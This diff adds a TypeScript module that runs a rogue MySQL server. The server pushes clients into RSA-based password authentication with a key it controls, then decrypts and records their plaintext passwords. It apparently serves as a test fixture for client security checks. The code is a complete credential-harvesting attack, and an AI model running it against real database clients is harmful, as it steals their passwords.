@@ -1,0 +1,88 @@
+import { constants, generateKeyPairSync, privateDecrypt } from 'node:crypto';
+import { once } from 'node:events';
+import { createServer } from 'node:net';
+import type { AddressInfo, Socket } from 'node:net';
+
+/** A server that stands where a MySQL is meant to be, and wants the password under an RSA key of its own. */
+export interface RogueMysql {
+  readonly port: number;
+  /** The passwords that clients have given away. */
+  readonly stolen: readonly string[];
+  close(): void;
+}
+
+const scramble = Buffer.from('12345678901234567890');
+// PROTOCOL_41, TRANSACTIONS, SECURE_CONNECTION, PLUGIN_AUTH, CONNECT_WITH_DB
+const capabilities = 0x0008_a208;
+
+/** Starts one; `plugin` is how it wants clients to log in. */
+export async function startRogueMysql(plugin: 'caching_sha2_password' | 'sha256_password'): Promise<RogueMysql> {
+  const { publicKey, privateKey } = generateKeyPairSync('rsa', {
+    modulusLength: 2048,
+    publicKeyEncoding: { type: 'spki', format: 'pem' },
+    privateKeyEncoding: { type: 'pkcs8', format: 'pem' },
+  });
+  const stolen: string[] = [];
+  const switchTo = Buffer.from(`\xfe${plugin}\0${scramble.toString('latin1')}\0`, 'latin1');
+  const more = (data: Uint8Array): Buffer => Buffer.concat([Buffer.from([1]), data]);
+  const server = createServer((socket) => {
+    socket.on('error', () => undefined);
+    const send = (sequence: number, payload: Uint8Array): void => {
+      const length = payload.length;
+      socket.write(Buffer.from([length & 255, length >> 8, 0, sequence]));
+      socket.write(payload);
+    };
+    send(0, greeting(plugin));
+    let isSwitched = false;
+    eachPacket(socket, (sequence, payload) => {
+      if (!isSwitched) {
+        isSwitched = true;
+        send(sequence + 1, switchTo);
+      } else if (payload.length === 256) {
+        stolen.push(opened(privateKey, payload));
+        socket.end();
+      } else if (payload.length === 1) send(sequence + 1, more(Buffer.from(publicKey)));
+      else send(sequence + 1, more(Buffer.from([4])));
+    });
+  }).listen(0, '127.0.0.1');
+  await once(server, 'listening');
+  return { port: (server.address() as AddressInfo).port, stolen, close: () => void server.close() };
+}
+
+function greeting(plugin: string): Buffer {
+  const flags = Buffer.alloc(4);
+  flags.writeUInt32LE(capabilities);
+  return Buffer.concat([
+    Buffer.from('\x0a8.4.0\0\x01\0\0\0', 'latin1'),
+    scramble.subarray(0, 8),
+    Buffer.from([0, flags[0] ?? 0, flags[1] ?? 0, 45, 2, 0, flags[2] ?? 0, flags[3] ?? 0, 21]),
+    Buffer.alloc(10),
+    scramble.subarray(8),
+    Buffer.from(`\0${plugin}\0`),
+  ]);
+}
+
+function eachPacket(socket: Socket, take: (sequence: number, payload: Buffer) => void): void {
+  let waiting = Buffer.alloc(0);
+  socket.on('data', (bytes: Buffer) => {
+    waiting = Buffer.concat([waiting, bytes]);
+    while (waiting.length >= 4 && waiting.length >= 4 + waiting.readUIntLE(0, 3)) {
+      const end = 4 + waiting.readUIntLE(0, 3);
+      take(waiting[3] ?? 0, waiting.subarray(4, end));
+      waiting = waiting.subarray(end);
+    }
+  });
+}
+
+/** The password that a client has encrypted; what was encrypted for another key is no password. */
+function opened(key: string, encrypted: Buffer): string {
+  try {
+    const padding = constants.RSA_PKCS1_OAEP_PADDING;
+    const mixed = privateDecrypt({ key, padding, oaepHash: 'sha1' }, encrypted);
+    return Buffer.from(mixed.map((byte, index) => byte ^ (scramble[index % scramble.length] ?? 0)))
+      .toString()
+      .replace(/\0$/, '');
+  } catch {
+    return '(encrypted for another key)';
+  }
+}
